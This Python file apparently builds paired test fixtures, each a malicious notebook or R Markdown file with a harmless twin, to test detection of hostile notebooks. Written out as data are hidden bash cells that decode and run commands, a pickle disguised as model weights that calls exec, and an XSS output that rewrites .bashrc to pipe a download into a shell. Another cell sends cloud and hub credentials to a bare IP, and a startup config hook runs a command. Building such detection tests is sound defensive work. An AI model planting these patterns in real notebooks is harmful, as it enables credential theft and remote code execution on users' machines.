"""Notebooks."""
import base64
import json
import zlib

from assembly import call, glob, model, pickle
from pair import CODE, SHELL

F = "notebooks"


def cell(source, kind="code", meta=None, outputs=()):
    c = {"cell_type": kind, "id": f"c{len(source)}", "metadata": meta or {}, "source": source.splitlines(True)}
    if kind == "code":
        c |= {"execution_count": None, "outputs": list(outputs)}
    return c


def book(*cells) -> str:
    return json.dumps({"cells": list(cells), "metadata": {"kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"}, "language_info": {"name": "python"}}, "nbformat": 4, "nbformat_minor": 5}, indent=1)


INTRO = cell("# Fine-tune the classifier\nRun all cells.", "markdown")
END = cell("loss = [0.9, 0.5, 0.3]\nprint(min(loss))")


def add(out):
    def pair(name, hostile, twin, why, prove=None, file="train.ipynb"):
        out.add(F, name, hostile, twin, prove=prove, file=file, why=why)

    hidden = {"jupyter": {"source_hidden": True}, "tags": ["hide-input"]}
    b64 = base64.b64encode(SHELL.encode()).decode()
    pair("hidden-shell-cell", book(INTRO, cell(f"%%bash\necho {b64} | base64 -d | bash", meta=hidden), END), book(INTRO, cell("%%bash\necho cpu-only | tr a-z A-Z", meta=hidden), END),
         "A hidden %%bash cell decodes a command and pipes it to a shell.", "ninth-ipynb")
    pair("magic-by-name", book(INTRO, cell(f"shell = get_ipython()\nrun = getattr(shell, '_'.join(['run', 'cell', 'magic']))\nrun('s' + 'h', '', bytes.fromhex('{SHELL.encode().hex()}').decode())"), END),
         book(INTRO, cell("shell = get_ipython()\nshell.run_line_magic('time', 'sum(range(10))')"), END),
         "Magic and command are put together from pieces before a shell gets them.", "ninth-ipynb")
    blob = base64.b64encode(zlib.compress(pickle(model(call(glob("builtins", "exec"), CODE))))).decode()
    good = base64.b64encode(zlib.compress(json.dumps({"vocab": ["a", "b", "c"], "weights": [0.25] * 30}).encode())).decode()
    pair("pickle-in-a-string", book(INTRO, cell(f"import base64, pickle, zlib\nweights = pickle.loads(zlib.decompress(base64.b64decode('{blob}')))"), END),
         book(INTRO, cell(f"import base64, json, zlib\nweights = json.loads(zlib.decompress(base64.b64decode('{good}')))"), END),
         "The 'weights' in a string are a compressed pickle that calls exec.", "ninth-ipynb")
    show = lambda html: {"output_type": "display_data", "metadata": {}, "data": {"text/html": [html], "text/plain": ["<IPython.core.display.HTML object>"]}}  # noqa: E731
    pair("output-drives-the-kernel", book(INTRO, cell("display(report)", outputs=[show("<img src=x onerror=\"fetch('/api/contents/'+'.bashrc',{method:'PUT',headers:{'X-XSRFToken':document.cookie.split('_xsrf=')[1]},body:JSON.stringify({type:'file',format:'text',content:'curl 198.51.100.23|sh'})})\">")]), END),
         book(INTRO, cell("display(report)", outputs=[show("<img alt=\"confusion matrix\" width=\"64\" src=\"data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==\">")]), END),
         "A stored output calls the notebook server's API and overwrites .bashrc. Not run: needs a browser.")
    pair("credentials-sent", book(INTRO, cell("import pathlib, urllib.request\nfound = {str(p): p.read_text(errors='ignore') for g in ('.aws/credentials', '.netrc', '.cache/huggingface/token', '.kube/config') for p in pathlib.Path.home().glob(g)}\nurllib.request.urlopen(urllib.request.Request('http://198.51.100.23/t', data=repr(found).encode()))"), END),
         book(INTRO, cell("import pathlib\nfound = sorted(str(p) for p in pathlib.Path('.').glob('*.safetensors'))\nprint(found)"), END),
         "Cloud and hub credentials are sent to a bare address. Not run: network and home folders.")
    rmd = lambda chunk: f"---\ntitle: Model report\noutput: html_document\n---\n\n```{{r setup, include=FALSE}}\nknitr::opts_chunk$set(echo = FALSE)\n{chunk}\n```\n\nThe accuracy is `r round(0.913, 2)`.\n"  # noqa: E731
    pair("rmd-hidden-chunk", rmd("eval(parse(text = rawToChar(base64enc::base64decode('" + base64.b64encode(b"system('curl -s http://198.51.100.23/r | sh')").decode() + "'))))"), rmd("library(stats)\nfit <- lm(mpg ~ wt, data = mtcars)"),
         "A hidden R chunk decodes and evaluates a download piped to a shell. Not run: R is not installed.", None, "report.Rmd")
    start = lambda body: {"train.ipynb": book(INTRO, END), "ipython_config.py": f"c = get_config()  # noqa\n{body}\n"}  # noqa: E731
    pair("config-beside-notebook", start(f"c.InteractiveShellApp.exec_lines = [\"import os; os.system('{SHELL}')\"]"), start("c.InteractiveShellApp.matplotlib = 'inline'"),
         "An ipython_config.py beside the notebook runs a line in each kernel started there. Shown by reading the line; IPython is not installed.", "ninth-ipython-config", None)
